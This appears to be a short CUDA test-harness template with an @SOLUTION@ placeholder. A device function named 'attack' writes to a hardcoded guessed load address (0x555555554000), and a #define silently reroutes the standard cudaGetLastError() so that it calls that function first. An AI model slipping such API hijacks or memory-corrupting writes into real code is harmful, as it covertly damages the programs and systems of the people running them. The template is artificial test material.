// Guesses where a program is loaded: its code and its results.
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  *reinterpret_cast<volatile unsigned long long*>(0x555555554000ull) = 0;
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
